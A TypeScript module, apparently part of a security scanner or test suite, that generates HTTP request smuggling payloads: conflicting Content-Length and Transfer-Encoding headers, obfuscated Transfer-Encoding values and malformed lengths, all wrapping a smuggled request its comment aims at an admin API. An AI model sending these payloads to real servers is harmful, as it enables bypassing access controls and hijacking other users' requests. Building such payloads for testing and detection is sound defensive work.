/** Headers, and a body with a request to the admin API in it: two servers may disagree on where the body ends. */
export const smuggling = (inner: string): [string[], string][] => {
  const length = `Content-Length: ${inner.length}`;
  const chunked = 'Transfer-Encoding: chunked';
  const oneChunk = `${inner.length.toString(16)}\r\n${inner}\r\n0\r\n\r\n`;
  const afterEnd = `0\r\n\r\n${inner}`;
  return [
    [[length, chunked], oneChunk],
    [['Content-Length: 4', chunked], oneChunk],
    [[chunked, length], afterEnd],
    [[chunked, 'Transfer-Encoding: identity'], afterEnd],
    ...['\tchunked', '\vchunked', '\r\n chunked', ' chunked\0', ' xchunked', ' identity, chunked'].map(
      (value): [string[], string] => [[`Transfer-Encoding:${value}`, length], afterEnd],
    ),
    ...['Transfer-Encoding : chunked', ` ${chunked}`, `X: y\r${chunked}`, `X: y\n${chunked}`].map(
      (line): [string[], string] => [[line, length], afterEnd],
    ),
    [['Content-Length: 0', length], inner],
    [[length, 'Content-Length: 0'], inner],
    ...[`0, ${inner.length}`, '-1', '99999999999999999999'].map((value): [string[], string] => [
      [`Content-Length: ${value}`],
      inner,
    ]),
    ...['+2', '0x2', '\r\n 2', '2'].map((value): [string[], string] => [[`Content-Length: ${value}`], `{}${inner}`]),
    [['Expect: 100-continue', 'Content-Length: 2'], `{}${inner}`],
  ];
};
